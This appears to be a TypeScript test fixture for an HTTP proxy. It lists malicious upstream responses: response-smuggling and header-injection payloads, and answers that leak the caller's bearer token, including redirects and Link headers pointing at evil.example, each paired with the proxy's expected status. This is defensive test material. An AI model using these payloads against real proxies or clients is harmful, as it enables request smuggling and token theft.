/** Bytes of an upstream, and the part of them that the caller gets. */
export interface AnswerAttack {
  /** Kind of the attack, and its row in the table of the threat model. */
  readonly attack: string;
  /** The answer in latin1. The token of the request is a placeholder. */
  readonly bytes: string;
  /** Statuses of the answers to the caller, `one` of any status, or `cut off`. */
  readonly answer: string;
}

export const TOKEN = '<token>';

const OK = 'HTTP/1.1 200 OK\r\n';
const EVIL = `${OK}content-length: 4\r\nx-evil: 1\r\n\r\nevil`;

function variants(attack: string, answers: readonly string[], answer: string): AnswerAttack[] {
  return answers.map((bytes) => ({ attack, bytes, answer }));
}

/** Answers whose end or head the caller could read in another way than the proxy. */
export const ANSWERS: readonly AnswerAttack[] = [
  ...variants(
    'an answer with conflicting lengths',
    [
      `${OK}content-length: 5\r\ncontent-length: 50\r\n\r\nhello`,
      `${OK}content-length: 5, 50\r\n\r\nhello`,
      `${OK}content-length: +5\r\n\r\nhello`,
      `${OK}content-length: 5\r\ntransfer-encoding: chunked\r\n\r\n0\r\n\r\n`,
      `${OK}transfer-encoding: chunked\r\ncontent-length: 5\r\n\r\n0\r\n\r\n`,
    ],
    '502',
  ),
  ...variants(
    'a header that holds another one',
    [
      `${OK}x-first: a\r\n set-cookie: b\r\ncontent-length: 0\r\n\r\n`.replace('\r\n set', '\rset'),
      `${OK}x-first: a\nset-cookie: b\r\ncontent-length: 0\r\n\r\n`,
      `${OK}x-first: a\0b\r\ncontent-length: 0\r\n\r\n`,
      `${OK}x first: a\r\ncontent-length: 0\r\n\r\n`,
    ],
    '502',
  ),
  ...variants(
    'an answer that is not HTTP/1.1',
    [
      '<html>no status</html>',
      'HTTP/1.1 20\r\n\r\n',
      'HTTP/1.1 999 No\r\ncontent-length: 0\r\n\r\n',
      `${OK}x: ${'a'.repeat(20_000)}\r\n\r\n`,
    ],
    '502',
  ),
  ...variants(
    'a switch to another protocol',
    ['HTTP/1.1 101 Switching Protocols\r\nconnection: upgrade\r\nupgrade: websocket\r\n\r\nevil'],
    '502',
  ),
  ...variants(
    'a second answer after the first one',
    [
      `${OK}content-length: 5\r\n\r\nhello${EVIL}`,
      `HTTP/1.1 204 No Content\r\n\r\n${EVIL}`,
      `HTTP/1.1 304 Not Modified\r\ncontent-length: 4\r\n\r\n${EVIL}`,
      `${OK}transfer-encoding: chunked\r\n\r\n5\r\nhello\r\n0\r\n\r\n${EVIL}`,
    ],
    'one',
  ),
  ...variants(
    'a body that breaks its framing',
    [
      `${OK}transfer-encoding: chunked\r\n\r\n5\r\nhello\r\nG\r\n`,
      `${OK}transfer-encoding: chunked\r\n\r\n4\r\nhello\r\n0\r\n\r\n`,
      `${OK}transfer-encoding: chunked\r\n\r\n5\nhello\r\n0\r\n\r\n`,
    ],
    'cut off',
  ),
  ...variants(
    'the token in a header of the answer',
    [
      `${OK}x-echo: Bearer ${TOKEN}\r\ncontent-length: 0\r\n\r\n`,
      `${OK}x-${TOKEN}: 1\r\ncontent-length: 0\r\n\r\n`,
      `HTTP/1.1 200 ${TOKEN}\r\ncontent-length: 0\r\n\r\n`,
      `HTTP/1.1 302 Found\r\nlocation: https://evil.example/?access_token=${TOKEN}\r\ncontent-length: 0\r\n\r\n`,
      `${OK}link: <https://evil.example/${TOKEN}>; rel="next"\r\ncontent-length: 0\r\n\r\n`,
      `${OK}set-cookie: token=${TOKEN}\r\ncontent-length: 0\r\n\r\n`,
      `HTTP/1.1 401 Unauthorized\r\nwww-authenticate: Bearer error="${TOKEN}"\r\ncontent-length: 0\r\n\r\n`,
      `HTTP/1.1 103 Early Hints\r\nlink: <${TOKEN}>\r\n\r\n${OK}content-length: 0\r\n\r\n`,
      `${OK}transfer-encoding: chunked\r\ntrailer: x-echo\r\n\r\n0\r\nx-echo: ${TOKEN}\r\nx-${TOKEN}: 1\r\n\r\n`,
    ],
    'one',
  ),
];
